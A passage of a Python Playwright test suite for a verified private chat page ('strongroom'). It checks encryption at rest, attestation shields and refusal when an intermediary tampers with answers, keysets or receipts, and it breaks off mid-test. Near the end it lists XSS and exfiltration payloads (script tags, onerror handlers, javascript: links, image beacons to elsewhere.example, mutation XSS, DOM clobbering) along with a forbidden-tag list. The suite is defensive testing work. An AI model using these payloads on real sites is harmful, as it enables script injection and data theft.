"""The chat page in a real browser, before a real room: what it shows, keeps and refuses.

Between the two stands ``chat_between.Between``, which can do whatever a dishonest host could. Every test also asserts that
the page asked nothing of another host, broke no rule of its content security policy, and raised no error.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed: it drives the browser")

import httpx
from playwright.sync_api import Browser, Page, expect, sync_playwright

import test_composite
from chat_between import Between, page_before, serving
from inference_world import MODEL, SERVE, FakeEngine, InferenceWorld
from strongroom import wire
from strongroom.app.client.answer import Answer as Kept
from strongroom.app.client.asking import Verifier
from strongroom.app.client.proxy import addresses, proxy
from strongroom.app.client.session import Terms
from strongroom.app.client.verified import AsyncVerifiedTransport
from strongroom.app.web import STATIC, ChatPage
from strongroom.attest import tdx
from strongroom.attest.intel_collateral import TcbStatus
from strongroom.contract import Contract, EnclaveTerms
from strongroom.inference.verification import Reader
from strongroom.trust import Trust
from world import DAY, NOW

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Locator

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: install Debian's package chromium"),
    pytest.mark.skipif(not (STATIC / "index.html").is_file(), reason="the page is not built: make web"),
]
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
WATCH = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (e) => window.broken.push(`${e.violatedDirective} ${e.blockedURI}`));
window.alert = window.confirm = window.prompt = () => window.broken.push("a dialog");
"""
DUMP = """async () => {
    const done = (asked) => new Promise((ok, no) => { asked.onsuccess = () => ok(asked.result); asked.onerror = no; });
    const text = (bytes) => Array.from(new Uint8Array(bytes.buffer ?? bytes), (byte) => String.fromCharCode(byte)).join("");
    const show = (value) => value instanceof CryptoKey ? `key extractable=${value.extractable}`
        : value instanceof ArrayBuffer || ArrayBuffer.isView(value) ? text(value)
        : value !== null && typeof value === "object"
            ? Object.entries(value).map(([name, inner]) => `${name}: ${show(inner)}`).join("\\n")
        : String(value);
    const database = await done(indexedDB.open("strongroom"));
    const found = [];
    for (const name of database.objectStoreNames) {
        for (const row of await done(database.transaction(name).objectStore(name).getAll())) found.push(show(row));
    }
    database.close();
    return found.join("\\n");
}"""
SECRET = "marker-of-a-secret-question"
ASK = "/v1/chat/completions"
REPORT = "/v1/aci/attestation"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    expect.set_options(timeout=30_000)  # machines differ; nothing here is a claim about speed
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@dataclass
class Desk:
    """A person's browser at the page, and what stands behind it."""

    browser: Browser
    url: str
    world: InferenceWorld
    between: Between
    context: BrowserContext
    page: Page
    errors: list[str] = field(default_factory=list)
    hosts: set[str] = field(default_factory=set)

    def look(self) -> None:
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("request", lambda request: self.hosts.add(re.sub(r"^(blob:)?(\w+://[^/]*).*", r"\2", request.url)))

    def visit(self) -> None:
        self.page.goto(self.url)

    def pin(self) -> None:
        """The first visit: looks at what is offered, and pins it."""
        self.visit()
        self.page.get_by_role("button", name="Pin this").click()
        expect(self.message).to_be_visible()
        expect(self.page.locator(".bar .shield")).not_to_have_class(re.compile("busy"))

    @property
    def message(self) -> Locator:
        return self.page.get_by_role("textbox", name="Message")

    @property
    def last(self) -> Locator:
        """The last answer."""
        return self.page.locator(".turn.answered").last

    @property
    def shield(self) -> Locator:
        """The last answer's, once it is there."""
        return self.last.locator(".shield:not(.busy)")

    def ask(self, text: str) -> None:
        self.message.fill(text)
        self.message.press("Enter")

    def asked(self, text: str) -> None:
        """Asks, and waits for the answer's shield."""
        before = self.page.locator(".turn.answered").count()
        self.ask(text)
        expect(self.page.locator(".turn.answered")).to_have_count(before + 1)
        expect(self.shield).to_be_visible()

    def colour(self) -> str | None:
        return self.shield.get_attribute("data-shield")

    def checks(self) -> dict[str, str]:
        """The open transcript, check by check."""
        rows = self.page.locator(".panel .check").all()
        return {str(row.get_attribute("data-check")): str(row.get_attribute("data-status")) for row in rows}

    def saved(self, name: str) -> bytes:
        """A file that the transcript offers."""
        with self.page.expect_download() as waiting:
            self.page.get_by_role("button", name=f"Download {name}").click()
        return Path(waiting.value.path()).read_bytes()

    def stored(self) -> bytes:
        """Everything that the page's database holds, as bytes; keys as whether they can be taken out."""
        text: str = self.page.evaluate(DUMP)
        return text.encode()

    def is_clean(self) -> None:
        assert self.errors == []
        assert self.page.evaluate("window.broken") == []
        assert self.hosts <= {self.url}


@pytest.fixture
def desk(chromium: Browser) -> Iterator[Desk]:
    with at_desk(chromium) as found:
        yield found


@contextmanager
def at_desk(
    browser: Browser,
    *,
    trust: Callable[[Trust], Trust] = lambda trust: trust,
    offered: bool = True,
    room: type[InferenceWorld] = InferenceWorld,
    looks: dict[str, Any] | None = None,
    address: str = "",
    **world: Any,
) -> Iterator[Desk]:
    """Everything that a test needs, with changes; what must always hold is asserted at the end."""
    with ExitStack() as stack:
        made = stack.enter_context(room(**world))
        between = Between(stack.enter_context(made.listening()))
        document = wire.encode(trust(made.trust()).to_json())
        url = stack.enter_context(page_before(between, (lambda: document) if offered else None, room=address))
        context = browser.new_context(**{"viewport": {"width": 1180, "height": 800}, **(looks or {})})
        stack.callback(context.close)
        context.add_init_script(WATCH)
        context.clock.set_fixed_time(made.now())  # the world's clock stands still
        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url)
        context.set_default_timeout(30_000)
        desk = Desk(browser, url, made, between, context, context.new_page())
        desk.look()
        yield desk
        desk.is_clean()


# --- an honest room ---------------------------------------------------------------------------------------------------


def test_before_the_first_message_it_says_what_is_checked_and_who_sees_what(chromium: Browser) -> None:
    serve = replace(SERVE, observability="failures", retention_s=7200, padding=1024, input_guards=frozenset({"pii"}))
    with at_desk(chromium, serve=serve) as desk:
        desk.visit()
        sheet = desk.page.get_by_role("main")
        expect(sheet).to_contain_text("Simulated: no hardware protects this room")
        expect(sheet).to_contain_text("at which line of code something failed")
        expect(sheet).to_contain_text("Receipts for 2 hours")
        expect(sheet).to_contain_text("Before the model: personal data. After it: none.")
        expect(sheet).to_contain_text("powers of two from 1,024 bytes")
        expect(sheet).to_contain_text(desk.world.contract.digest)
        expect(sheet).to_contain_text("Each answer has one; its hashes are compared")
        assert desk.between.sent(ASK) == []
        asked = {one.path.split("?")[0] for one in desk.between.passed}
        assert asked <= {"/v1/aci/attestation", "/v1/room", "/.well-known/hpke-keys"}


def test_a_chat_streams_and_its_shield_is_amber_where_the_platform_is_simulated(desk: Desk) -> None:
    desk.pin()
    desk.asked(f"hello {SECRET}")
    expect(desk.last).to_contain_text(f"You said: hello {SECRET}")
    assert desk.colour() == "amber"
    assert desk.shield.inner_text() == "Simulated"
    desk.shield.click()
    checks = desk.checks()
    assert {f"I{n}" for n in range(1, 20)} <= {number for number, status in checks.items() if status == "passed"}
    assert checks["I20"] == "not established"  # the log does not hold a receipt the moment that it is made
    assert {f"A{n}" for n in range(1, 16)} <= {number for number, status in checks.items() if status == "passed"}
    expect(desk.page.get_by_role("dialog")).to_contain_text("platform: simulated (no hardware protection)")
    assert desk.saved("receipt.json") == desk.world.receipts.last.encode()
    keyset = json.loads(desk.saved("keyset.json"))
    assert wire.digest(wire.encode(keyset)) == desk.world.receipts.last.workload_keyset_digest


def test_an_answer_that_was_taken_away_is_verified_again_elsewhere(desk: Desk) -> None:
    """`strongroom verify` says of the page's file what the page said, check by check."""
    desk.pin()
    desk.asked(SECRET)
    desk.shield.click()
    shown = desk.checks()
    kept = Kept.parse(desk.saved("answer.json"))
    assert json.loads(kept.request)["messages"] == [{"content": SECRET, "role": "user"}]
    session = kept.session(Terms(trust=desk.world.trust(), contract=desk.world.contract.digest))
    found = kept.examine(session)
    assert found.require(Reader.CLIENT).label == "platform: simulated (no hardware protection)"
    checks = [*session.transcript.checks, *session.appraisal.checks, *found.transcript.checks]
    assert {check.number: check.status.value for check in checks} == shown


def test_who_carries_a_message_cannot_read_it(desk: Desk) -> None:
    desk.pin()
    seen: list[bytes] = []
    desk.between.tamper = lambda _path, piece: seen.append(piece) or piece
    desk.asked(SECRET)
    expect(desk.last).to_contain_text(SECRET)
    assert len(desk.between.sent(ASK)) == 1
    assert not any(SECRET.encode() in piece for piece in [*seen, *(one.body for one in desk.between.passed)])


def test_two_questions_are_not_known_for_one_persons(desk: Desk) -> None:
    desk.pin()
    desk.asked("one")
    desk.asked("two")
    first, second = (one.authorization for one in desk.between.sent(ASK))
    assert first.startswith("Bearer anon-")
    assert first != second


def test_a_conversation_is_sent_whole_and_shown_in_its_order(desk: Desk) -> None:
    desk.pin()
    desk.asked("one")
    desk.asked("two")
    sent = json.loads(desk.world.engine.asked[-1][1])["messages"]
    assert [one["role"] for one in sent] == ["user", "assistant", "user"]
    assert sent[-1]["content"] == "two"
    assert desk.page.locator(".turn").count() == 4


def test_a_reload_keeps_the_history_and_its_shields(desk: Desk) -> None:
    desk.pin()
    desk.asked(SECRET)
    desk.page.reload()
    expect(desk.last).to_contain_text(f"You said: {SECRET}")
    assert desk.colour() == "amber"
    desk.shield.click()
    assert desk.saved("receipt.json") == desk.world.receipts.last.encode()


def test_what_lies_in_the_browser_is_encrypted_under_a_key_that_cannot_be_taken_out(desk: Desk) -> None:
    desk.pin()
    desk.asked(SECRET)
    desk.page.reload()
    expect(desk.last).to_contain_text(SECRET)
    stored = desk.stored()
    assert b"conversation" in stored
    assert b"key extractable=false" in stored
    assert b"extractable=true" not in stored
    assert SECRET.encode() not in stored
    assert desk.world.contract.digest.encode() not in stored


def test_a_passphrase_locks_what_is_kept(desk: Desk) -> None:
    desk.pin()
    desk.asked(SECRET)
    desk.page.get_by_role("button", name="Settings").click()
    desk.page.get_by_label("Passphrase", exact=True).fill("correct horse battery")
    desk.page.get_by_role("button", name="Set passphrase").click()
    expect(desk.page.get_by_role("button", name="Change", exact=True)).to_be_visible()
    desk.page.reload()
    expect(desk.page.get_by_role("heading", name="Locked")).to_be_visible()
    assert b"key extractable" not in desk.stored()
    desk.page.get_by_label("Passphrase").fill("wrong horse battery")
    desk.page.keyboard.press("Enter")
    expect(desk.page.get_by_text("That is not the passphrase.")).to_be_visible()
    desk.page.get_by_label("Passphrase").fill("correct horse battery")
    desk.page.keyboard.press("Enter")
    desk.page.get_by_role("button", name=SECRET).click()
    expect(desk.last).to_contain_text(f"You said: {SECRET}")


MOVED = """async () => {
    const done = (asked) => new Promise((ok, no) => { asked.onsuccess = () => ok(asked.result); asked.onerror = no; });
    const database = await done(indexedDB.open("strongroom"));
    const records = database.transaction("records", "readwrite").objectStore("records");
    const [first, second] = (await done(records.getAll())).filter((row) => row.kind === "conversation");
    await done(records.put({ ...first, iv: second.iv, sealed: second.sealed }));
    database.close();
}"""


def test_a_record_moved_to_the_place_of_another_does_not_open(desk: Desk) -> None:
    desk.pin()
    desk.asked("one")
    desk.page.keyboard.press("Alt+n")
    desk.asked("two")
    desk.page.evaluate(MOVED)
    desk.page.reload()
    expect(desk.page.get_by_text("1 conversation could not be decrypted").first).to_be_attached()
    expect(desk.page.locator(".rail-item")).to_have_count(1)


def test_another_tab_shows_what_was_asked_here(desk: Desk) -> None:
    desk.pin()
    other = desk.context.new_page()
    other.goto(desk.url)
    expect(other.get_by_role("textbox", name="Message")).to_be_visible()
    desk.asked("from the first tab")
    other.get_by_role("button", name="from the first tab").click()
    expect(other.locator(".turn.answered")).to_contain_text("You said: from the first tab")
    expect(other.locator(".turn.answered .shield")).to_have_attribute("data-shield", "amber")


def test_stopping_stops_the_engine_and_says_that_nothing_was_examined(chromium: Browser) -> None:
    with at_desk(chromium, engine=FakeEngine(words=["word "] * 500, pause=0.02)) as desk:
        desk.pin()
        desk.ask("go on for ever")
        expect(desk.last).to_contain_text("word word")
        desk.page.keyboard.press("Escape")
        expect(desk.shield).to_contain_text("Stopped, not examined")
        assert desk.colour() == "open"
        expect(desk.message).to_be_editable()
        desk.world.engine.words, desk.world.engine.pause = ["short"], 0
        desk.asked("and now")
        assert desk.colour() == "amber"


def test_asking_again_takes_the_place_of_an_answer(desk: Desk) -> None:
    desk.pin()
    desk.asked("one")
    desk.world.engine.words = ["another answer"]
    desk.last.get_by_role("button", name="Ask again for this answer").click()
    expect(desk.last).to_contain_text("another answer")
    expect(desk.shield).to_be_visible()
    assert desk.page.locator(".turn.answered").count() == 1
    assert len(desk.world.engine.asked) == 2


def test_an_edited_question_takes_the_place_of_all_after_it(desk: Desk) -> None:
    desk.pin()
    desk.asked("one")
    desk.asked("two")
    desk.page.locator(".turn.asked").first.get_by_role("button", name="Edit and ask again").click()
    desk.page.get_by_role("textbox", name="Edit your message").fill("three")
    desk.page.get_by_role("button", name="Send instead").click()
    expect(desk.last).to_contain_text("You said: three")
    expect(desk.shield).to_be_visible()
    assert desk.page.locator(".turn").count() == 2
    assert [m["content"] for m in json.loads(desk.world.engine.asked[-1][1])["messages"]] == ["three"]


def test_a_deleted_conversation_is_gone_with_its_evidence(desk: Desk) -> None:
    desk.pin()
    desk.asked(SECRET)
    assert b"kind: evidence" in desk.stored()
    desk.page.get_by_role("button", name="Export or delete this conversation").click()
    desk.page.get_by_role("button", name="Delete", exact=True).click()
    desk.page.get_by_role("button", name="Delete for good").click()
    expect(desk.page.get_by_text("Conversation deleted").first).to_be_attached()
    desk.page.reload()
    expect(desk.message).to_be_visible()
    assert b"kind: conversation" not in desk.stored()
    assert b"kind: evidence" not in desk.stored()


def test_evidence_of_an_answer_that_was_asked_for_again_is_swept_out(desk: Desk) -> None:
    desk.pin()
    desk.asked("one")
    before = desk.stored().count(b"kind: evidence")
    desk.world.engine.words = ["another"]
    desk.last.get_by_role("button", name="Ask again for this answer").click()
    expect(desk.last).to_contain_text("another")
    expect(desk.shield).to_be_visible()
    assert desk.stored().count(b"kind: evidence") > before
    desk.page.reload()
    expect(desk.last).to_contain_text("another")
    expect(desk.page.locator(".bar .shield.amber")).to_be_visible()
    assert desk.stored().count(b"kind: evidence") == before
    desk.shield.click()
    assert desk.saved("receipt.json") == desk.world.receipts.last.encode()


def test_an_export_holds_the_words_and_every_check(desk: Desk) -> None:
    desk.pin()
    desk.asked(SECRET)
    desk.page.get_by_role("button", name="Export or delete this conversation").click()
    with desk.page.expect_download() as waiting:
        desk.page.get_by_role("button", name="JSON with all checks").click()
    found = json.loads(Path(waiting.value.path()).read_bytes())
    assert found["turns"][0]["text"] == SECRET
    assert {check["number"] for section in found["turns"][1]["proof"]["sections"] for check in section["checks"]} >= {
        "A1",
        "I7",
    }


def test_the_keyboard_is_enough(desk: Desk) -> None:
    page = desk.page
    desk.visit()
    pin = page.get_by_role("button", name="Pin this")
    expect(pin).to_be_enabled()
    for _ in range(40):
        page.keyboard.press("Tab")
        if pin.evaluate("button => button === document.activeElement"):
            break
    page.keyboard.press("Enter")
    expect(desk.message).to_be_focused()
    expect(page.locator(".bar .shield.amber")).to_be_visible()
    page.keyboard.type("first")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("line")
    page.keyboard.press("Enter")
    expect(desk.shield).to_be_visible()
    page.keyboard.press("Alt+c")
    expect(page.get_by_role("dialog")).to_be_visible()
    assert "I8" in desk.checks()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.keyboard.press("Alt+r")
    expect(desk.shield).to_be_visible()
    page.keyboard.press("Alt+n")
    expect(page.get_by_role("heading", name="What is on your mind?")).to_be_visible()
    page.keyboard.type("second")
    page.keyboard.press("Enter")
    expect(desk.last).to_contain_text("You said: second")
    expect(desk.shield).to_be_visible()
    expect(desk.message).to_be_focused()
    page.keyboard.press("ArrowUp")
    expect(page.get_by_role("textbox", name="Edit your message")).to_be_focused()
    page.keyboard.press("Escape")
    page.keyboard.press("Alt+ArrowDown")
    expect(desk.last).to_contain_text("first line")


def test_what_grows_is_said_to_who_listens(desk: Desk) -> None:
    desk.pin()
    desk.asked("hello")
    status = desk.page.locator("#announced")
    expect(status).to_have_attribute("aria-live", "polite")
    expect(status).to_contain_text("The answer is complete. Shield: Simulated")


def test_on_a_phone_nothing_is_wider_than_the_screen(chromium: Browser) -> None:
    row = " | ".join("abcdefghijklmnop" for _ in range(9))
    wide = f"```python\n{'x = 1; ' * 60}\n```\n\n| {row} |\n{'|---' * 9}|\n\n{'w' * 300}"
    looks = {"viewport": {"width": 360, "height": 740}, "has_touch": True, "is_mobile": True}
    with at_desk(chromium, engine=FakeEngine(words=[wide]), looks=looks) as desk:
        desk.visit()
        expect(desk.page.get_by_role("button", name="Pin this")).to_be_enabled()
        assert fits(desk.page)
        desk.pin()
        desk.asked("something wide")
        assert fits(desk.page)
        desk.shield.click()
        assert fits(desk.page)
        desk.page.keyboard.press("Escape")
        desk.page.locator(".bar").get_by_role("button", name="Conversations").click()
        desk.page.get_by_role("button", name="New conversation").click()
        expect(desk.page.get_by_role("heading", name="What is on your mind?")).to_be_visible()
        assert fits(desk.page)


def fits(page: Page) -> bool:
    found: bool = page.evaluate(
        """() => ["html", "body", ".thread", ".page", ".panel-body"].map((name) => document.querySelector(name))
            .every((found) => found === null || found.scrollWidth <= found.clientWidth)"""
    )
    return found


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_is_light_or_dark_as_the_system_is_until_somebody_chooses(chromium: Browser, scheme: str) -> None:
    with at_desk(chromium, looks={"color_scheme": scheme}) as desk:
        desk.pin()
        assert dark(desk.page) is (scheme == "dark")
        desk.page.get_by_role("button", name=re.compile("Switch to")).click()
        assert dark(desk.page) is (scheme == "light")
        desk.page.reload()
        expect(desk.message).to_be_visible()
        assert dark(desk.page) is (scheme == "light")


def dark(page: Page) -> bool:
    found: bool = page.evaluate("Number(getComputedStyle(document.body).backgroundColor.match(/\\d+/)[0]) < 128")
    return found


def test_code_is_copied_as_it_is(chromium: Browser) -> None:
    with at_desk(chromium, engine=FakeEngine(words=["```python\n", "a  <b>\n\n", "c\n", "```"])) as desk:
        desk.pin()
        desk.asked("code")
        desk.page.get_by_role("button", name="Copy this python code").click()
        expect(desk.page.locator("#announced")).to_have_text("Copied")
        assert desk.page.evaluate("navigator.clipboard.readText()") == "a  <b>\n\nc"


def test_an_api_key_is_asked_for_and_kept_encrypted(chromium: Browser) -> None:
    with at_desk(chromium, limits=None) as desk:
        key = desk.world.keys.add("tester", at=int(desk.world.clock()))
        desk.pin()
        desk.ask("hello")
        desk.page.get_by_role("button", name="Enter an API key").click()
        desk.page.locator("#apikey").fill(key)
        desk.page.keyboard.press("Enter")
        desk.page.get_by_role("button", name="Ask again", exact=True).click()
        expect(desk.last).to_contain_text("You said: hello")
        expect(desk.shield).to_be_visible()
        assert desk.colour() == "amber"
        assert key.encode() not in desk.stored()


# --- on hardware ------------------------------------------------------------------------------------------------------


class TdWorld(InferenceWorld):
    """The same on a trust domain, whose evidence is the project's own under roots that these tests pin."""

    machine = test_composite.MACHINE
    policy_of_evidence = test_composite.POLICY

    def agree(self, **changes: Any) -> Contract:
        self.world.platform = test_composite.Td(self.machine)  # type: ignore[assignment]
        for name, broker in self.world.brokers.items():
            trust = test_composite.trusting(self.policy_of_evidence, name)
            broker.owner = replace(broker.owner, trust=trust, policy=trust.appraisal_policy())
        return super().agree(enclave=EnclaveTerms(("tdx",), (test_composite.MEASUREMENT,), "isolated"), **changes)

    def trust(self) -> Trust:
        return test_composite.trusting(self.policy_of_evidence)


class ToleratedWorld(TdWorld):
    """Its firmware is out of date, and everybody accepts that for a day."""

    machine = test_composite.OLD
    policy_of_evidence = replace(
        test_composite.POLICY,
        terms={
            "tdx": tdx.Terms(
                statuses=frozenset({TcbStatus.UP_TO_DATE, TcbStatus.OUT_OF_DATE}),
                advisories=dict.fromkeys(("INTEL-SA-00960", "INTEL-SA-01192", "INTEL-SA-01245"), NOW + DAY),
            )
        },
    )


def test_the_shield_is_green_where_hardware_signed_and_everything_was_verified_here(chromium: Browser) -> None:
    with at_desk(chromium, room=TdWorld) as desk:
        desk.visit()
        expect(desk.page.get_by_role("main")).to_contain_text("The room's evidence fits")
        expect(desk.page.get_by_role("main")).not_to_contain_text("imulated")
        desk.pin()
        expect(desk.page.locator(".bar .shield")).to_have_text("Verified room, tdx")
        desk.asked("hello")
        assert desk.colour() == "green"
        assert desk.shield.inner_text() == "Verified"
        desk.shield.click()
        checks = desk.checks()
        assert {number for number, status in checks.items() if status != "passed"} == {"I20"}
        assert {f"E{n}" for n in range(1, 9)} <= checks.keys()
        expect(desk.page.get_by_role("dialog")).to_contain_text("platform: tdx (Intel TDX)")


def test_green_turns_red_when_an_answer_is_changed(chromium: Browser) -> None:
    with at_desk(chromium, room=TdWorld) as desk:
        desk.pin()
        desk.between.tamper = flipped
        desk.ask("hello")
        expect(desk.shield).to_be_visible()
        assert desk.colour() == "red"
        refuses(desk)


def test_hardware_that_is_tolerated_for_a_time_is_amber_and_not_called_simulated(chromium: Browser) -> None:
    with at_desk(chromium, room=ToleratedWorld) as desk:
        desk.pin()
        desk.asked("hello")
        assert desk.colour() == "amber"
        assert desk.shield.inner_text() == "Verified, with a warning"


def test_evidence_of_a_machine_that_nobody_tolerates_is_red(chromium: Browser) -> None:
    strict = test_composite.trusting(test_composite.POLICY)
    with at_desk(chromium, room=ToleratedWorld, trust=lambda _trust: strict) as desk:
        desk.visit()
        expect(desk.page.get_by_role("alert")).to_contain_text("Nothing is sent to this room")
        expect(desk.page.get_by_role("button", name="Pin this")).to_be_disabled()


# --- a dishonest one --------------------------------------------------------------------------------------------------


def refuses(desk: Desk, *words: str) -> None:
    """Nothing can be sent, and it says why."""
    line = desk.page.locator(".stop-line")
    expect(line).to_contain_text("Nothing is sent.")
    for word in words:
        expect(line).to_contain_text(word)
    expect(desk.message).to_have_count(0)


def test_an_answer_changed_on_its_way_is_red_and_nothing_more_is_sent(desk: Desk) -> None:
    desk.pin()
    desk.between.tamper = flipped
    desk.ask("hello")
    expect(desk.shield).to_be_visible()
    assert desk.colour() == "red"
    refuses(desk)
    count = len(desk.between.sent(ASK))
    desk.page.keyboard.press("Alt+r")
    desk.shield.click()
    assert "failed" in desk.checks().values()
    desk.page.keyboard.press("Escape")
    assert len(desk.between.sent(ASK)) == count
    desk.between.tamper = lambda _path, piece: piece
    desk.page.get_by_role("button", name="Verify again").click()
    desk.asked("once more")
    assert desk.colour() == "amber"
    sent = json.loads(desk.world.engine.asked[-1][1])["messages"]
    assert [one["content"] for one in sent] == ["once more"]  # what did not verify is no part of what follows


def flipped(path: str, piece: bytes) -> bytes:
    return piece[:-1] + bytes([piece[-1] ^ 1]) if path == ASK and piece else piece


def test_a_keyset_swapped_after_it_was_pinned_is_red(desk: Desk) -> None:
    desk.pin()
    desk.asked("hello")
    digests: list[bytes] = []

    def header(path: str, headers: dict[bytes, bytes]) -> dict[bytes, bytes]:
        return {**headers, b"x-aci-keyset-digest": digests[0]} if path == REPORT and digests else headers

    def swapped(path: str, piece: bytes) -> bytes:
        """The host's own key in the place of the enclave's."""
        if path != REPORT:
            return piece
        report = json.loads(piece)
        for entry in report["attestation"]["workload_keyset"]["e2ee_public_keys"]:
            entry["public_key"] = "09" + entry["public_key"][2:]
        report["workload_keyset_digest"] = wire.digest(wire.encode(report["attestation"]["workload_keyset"]))
        digests[:] = [report["workload_keyset_digest"].encode()]
        return wire.encode(report)

    desk.between.tamper, desk.between.headers = swapped, header
    desk.page.reload()
    refuses(desk, "E1")  # the header still names the enclave's own
    desk.page.get_by_role("button", name="Verify again").click()
    refuses(desk, "A6")
    desk.page.get_by_role("button", name="See the checks").click()
    assert desk.checks()["A6"] == "failed"
    assert len(desk.between.sent(ASK)) == 1


def test_a_receipt_that_says_something_else_is_red(desk: Desk) -> None:
    desk.pin()

    def changed(path: str, piece: bytes) -> bytes:
        if not path.startswith("/v1/aci/receipts/"):
            return piece
        return piece.replace(b'"prompt_tokens":', b'"prompt_tokens":1')

    desk.between.tamper = changed
    desk.asked("hello")
    assert desk.colour() == "red"
    refuses(desk, "I4")


def test_the_receipt_of_another_request_is_red(desk: Desk) -> None:
    desk.pin()
    desk.asked("the first")
    first = desk.world.receipts.last.encode()
    desk.between.tamper = lambda path, piece: first if path.startswith("/v1/aci/receipts/") else piece
    desk.asked("the second")
    assert desk.colour() == "red"
    refuses(desk, "I7")


def test_a_stream_cut_short_is_red(chromium: Browser) -> None:
    with at_desk(chromium, engine=FakeEngine(words=["word "] * 12, pause=0.02)) as desk:
        desk.pin()
        desk.between.cut = 4
        desk.ask("hello")
        expect(desk.shield).to_be_visible()
        assert desk.colour() == "red"
        refuses(desk)


def test_an_enclave_that_runs_something_else_is_never_talked_to(chromium: Browser) -> None:
    with at_desk(chromium, trust=lambda trust: replace(trust, measurements=())) as desk:
        desk.visit()
        expect(desk.page.get_by_role("alert")).to_contain_text("Nothing is sent to this room")
        expect(desk.page.get_by_role("button", name="Pin this")).to_be_disabled()
        assert desk.between.sent(ASK) == []


def test_another_contract_than_the_pinned_one_is_refused(desk: Desk) -> None:
    desk.pin()
    other = InferenceWorld(serve=replace(SERVE, observability="full"))
    with other, other.listening() as address:
        desk.between.room = address
        desk.page.reload()
        refuses(desk)
        assert desk.between.sent(ASK) == []


def test_a_host_that_is_away_is_said_to_be_away_and_not_accused(desk: Desk) -> None:
    desk.pin()
    desk.between.down = True
    desk.page.reload()
    expect(desk.page.get_by_role("button", name="Try again")).to_be_visible()
    desk.between.down = False
    desk.page.get_by_role("button", name="Try again").click()
    desk.asked("hello")
    assert desk.colour() == "amber"


def test_without_a_trust_document_nothing_is_pinned(chromium: Browser, tmp_path: Path) -> None:
    with at_desk(chromium, offered=False) as desk:
        desk.visit()
        expect(desk.page.get_by_role("heading", name="What do you trust?")).to_be_visible()
        expect(desk.page.get_by_role("button", name="Pin this")).to_have_count(0)
        mine = tmp_path / "trust.json"
        mine.write_bytes(wire.encode(desk.world.trust().to_json()))
        desk.page.get_by_label("Trust document").set_input_files(mine)
        desk.page.get_by_role("button", name="Pin this").click()
        desk.asked("hello")
        assert desk.colour() == "amber"


# --- as it is served --------------------------------------------------------------------------------------------------


def through_the_proxy(world: InferenceWorld, room: str) -> Callable[[str], Any]:
    """What `strongroom proxy` serves."""

    def made(url: str) -> Any:
        terms = Terms(trust=world.trust(), contract=world.contract.digest)
        transport = AsyncVerifiedTransport(Verifier(room, terms, now=world.now), httpx.AsyncHTTPTransport())
        offered = wire.encode(world.trust().to_json())
        hosts = addresses("127.0.0.1", int(url.rsplit(":", 1)[1]))
        return proxy(transport, httpx.AsyncHTTPTransport(), hosts, trust=offered)

    return made


def of_the_host(world: InferenceWorld, _room: str) -> Callable[[str], Any]:
    """What a host serves at its own address."""
    page = ChatPage(served_by="host", trust=lambda: wire.encode(world.trust().to_json()), behind=world.service)
    return lambda _url: page


@pytest.mark.parametrize("served", [through_the_proxy, of_the_host])
def test_it_works_as_it_is_served(chromium: Browser, served: Callable[..., Any]) -> None:
    with InferenceWorld() as world, world.listening() as room, serving(served(world, room)) as url:
        context = chromium.new_context()
        context.add_init_script(WATCH)
        context.clock.set_fixed_time(world.now())
        desk = Desk(chromium, url, world, Between(room), context, context.new_page())
        desk.look()
        desk.visit()
        sheet = desk.page.get_by_role("main")
        own = served is through_the_proxy
        expect(sheet).to_contain_text("the proxy on your own machine" if own else "the very host that it verifies")
        expect(sheet).to_contain_text((room if own else url).removeprefix("http://"))
        desk.pin()
        desk.asked("hello")
        expect(desk.last).to_contain_text("You said: hello")
        assert desk.colour() == "amber"
        desk.is_clean()
        context.close()


# --- what a model writes ----------------------------------------------------------------------------------------------


ATTACKS = {
    "script": "<script>window.broken.push('script')</script>",
    "handler": "<img src=x onerror=\"window.broken.push('handler')\">",
    "svg": "<svg onload=\"window.broken.push('svg')\"><use href='https://elsewhere.example/#x'/></svg>",
    "javascript link": "[press](javascript:window.broken.push('link')) <a href=\"javascript:alert(1)\">x</a>",
    "data link": "[press](data:text/html,<script>alert(1)</script>)",
    "image": "![](https://elsewhere.example/leak.png?q=secret)",
    "reference image": "![x][y]\n\n[y]: https://elsewhere.example/leak.png",
    "style": "<style>@import 'https://elsewhere.example/x.css';</style><div style=\"background:url(https://elsewhere.example/)\">",
    "frame": "<iframe src='https://elsewhere.example/'></iframe><object data='/config.json'></object>",
    "form": "<form action='https://elsewhere.example/'><input name=q><button id=message>go</button></form>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "code fence": '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "link title": "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "clobbering": "<a id=app name=config></a><a id=app name=trust></a>",
    "base": "<base href='https://elsewhere.example/'><meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
}


FORBIDDEN = "script, img, svg, style, iframe, object, form, math, base, meta, link, [style], [id], [name]"


@pytest.fixture(scope="module")
def attacked(chromium: Browser) -> Iterator[Desk]:
    with at_desk(chromium) as desk:
        desk.pin()
        yield desk


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_writes_is_text(attacked: Desk, attack: str) -> None:
    desk = attacked
    desk.page.keyboard.press("Alt+n")
    desk.world.engine.words = [ATTACKS[attack]]
    desk.asked(attack)
    prose = desk.last.locator(".prose")
    assert (
